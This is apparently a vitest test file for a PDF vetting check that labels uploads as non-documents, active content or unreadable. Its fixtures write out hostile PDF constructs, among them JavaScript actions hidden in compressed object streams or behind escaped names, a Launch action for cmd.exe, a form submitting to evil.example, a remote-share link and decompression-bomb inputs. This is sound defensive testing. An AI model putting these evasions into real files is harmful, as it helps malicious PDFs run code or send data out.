import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { expect, test } from 'vitest'
import { aPdf, pdfOf } from '../../../../../test/vetting.ts'
import { pdfFault } from './check-pdf.ts'

const action = '<< /S /JavaScript /JS (app.alert(1)) >>'
const object = (text: string) => `9 0 obj\n${text}\nendobj\n`

/** An object stream that holds one object, packed as it says. */
function packed(held: string, dictionary: string, pack: (bytes: Buffer) => Buffer = deflateSync): Buffer {
  const index = '12 0 '
  const data = pack(Buffer.from(index + held))
  const head = `9 0 obj\n<< ${dictionary} /N 1 /First ${index.length} /Length ${data.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream\nendobj\n')])
}
const usual = '/Type /ObjStm /Filter /FlateDecode'

async function made(): Promise<Buffer> {
  const paper = new PDFDocument({ info: { Title: 'Charte' } })
  const parts: Buffer[] = []
  paper.on('data', (part: Buffer) => parts.push(part))
  const ended = new Promise((resolve) => paper.on('end', resolve))
  paper.fontSize(20).text('Une charte (signée) : 1 0 obj << /A /B >>', 100, 100, { link: 'https://example.fr/' })
  paper.addPage().text('Fin')
  paper.end()
  await ended
  return Buffer.concat(parts)
}

test('what a usual program writes is taken', async () => {
  expect(pdfFault(await made())).toBeNull()
  expect(pdfFault(aPdf)).toBeNull()
  expect(pdfFault(pdfOf(packed('<< /Type /Font /BaseFont /Helvetica >>', usual)))).toBeNull()
  expect(pdfFault(pdfOf(packed('<< /Type /Font >>', '/Type /ObjStm /Filter [ /FlateDecode ]')))).toBeNull()
  expect(pdfFault(Buffer.concat([aPdf, Buffer.from('\r\n')]))).toBeNull()
  // As scanners fill a block up.
  expect(pdfFault(Buffer.concat([aPdf, Buffer.alloc(900)]))).toBeNull()
})

test.each([
  ['nothing', Buffer.alloc(0)],
  ['five bytes', Buffer.from('%PDF-')],
  ['another version', Buffer.from(aPdf.toString().replace('%PDF-1.7', '%PDF-7.1'))],
  ['something before it', Buffer.concat([Buffer.from('GIF89a'), aPdf])],
  ['no end', aPdf.subarray(0, -8)],
  ['a program behind it', Buffer.concat([aPdf, Buffer.alloc(2000, 'MZ')])],
  ['no pages', Buffer.from('%PDF-1.7\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n')],
])('%s is no document', (_what, file) => {
  expect(pdfFault(file)).toBe('not-a-document')
})

test.each([
  ['a script', object(action)],
  ['a script under another spelling', object('<< /S /J#61vaScr#69pt >>')],
  ['a script without blanks', object('<</S/JavaScript/JS(1)>>')],
  ['a program to start', object('<< /S /Launch /F (cmd.exe) >>')],
  ['a file within', object('<< /Type /EmbeddedFile >>')],
  ['a list of files', object('<< /Names << /EmbeddedFiles 10 0 R >> >>')],
  ['a film', object('<< /Subtype /RichMedia >>')],
  ['a form of another kind', object('<< /AcroForm << /XFA 11 0 R >> >>')],
  ['a form that sends', object('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['another file to open', object('<< /S /GoToR /F (\\\\evil\\share) >>')],
  ['a protection', object('<< /Encrypt 10 0 R >>')],
  ['a script in a comment that an index may point into', '% 9 0 obj << /S /JavaScript >>\n'],
  ['a script in a packed stream', packed(action, usual)],
  ['one that is packed without saying what it is', packed(action, '/Filter /FlateDecode')],
  ['one whose names are spelled otherwise', packed(action, '/Type /Obj#53tm /Filt#65r /Flate#44ecode')],
  ['one that is not packed', packed(action, '/Type /ObjStm', (bytes) => bytes)],
  ['one behind a comment', packed(action, `${usual} % >> stream\n`)],
  ['one behind a text that seems to be its end', packed(action, `${usual} /X (>> endobj 1 0 obj)`)],
  ['one within what seems to be a text', `8 0 obj\n(${packed(action, usual).toString('latin1')})\nendobj\n`],
])('%s is active', (_what, more) => {
  expect(pdfFault(pdfOf(Buffer.from(more as string, 'latin1')))).toBe('active')
})

test.each([
  ['in another way', packed(action, '/Type /ObjStm /Filter /LZWDecode')],
  [
    'twice',
    packed(action, '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', (bytes) => deflateSync(deflateSync(bytes))),
  ],
  ['as another object says', packed(action, '/Type /ObjStm /Filter 10 0 R')],
  ['with a reckoning', packed(action, `${usual} /DecodeParms << /Predictor 12 >>`)],
  ['into another file', packed(action, '/Type /ObjStm /F (ailleurs)')],
  ['and cut off', packed(action, usual, (bytes) => deflateSync(bytes).subarray(0, 12))],
  ['into more than is read', packed(' '.repeat(40_000_000), usual)],
  ['among too many names', Buffer.from('/a'.repeat(600_000))],
  ['badly', Buffer.from('9 0 obj\n<< /Type /ObjStm /Filter (')],
  ['deeper than anything is', Buffer.from(`9 0 obj\n<< /A ${'['.repeat(500)}${']'.repeat(500)} >>\nendobj\n`)],
  ['within each other, to take our time', Buffer.from(`${'obj<</A('.repeat(20_000)}${')>>'.repeat(20_000)}`)],
])('objects that are packed %s can’t be read', (_how, more) => {
  expect(pdfFault(pdfOf(more))).toBe('unreadable')
})
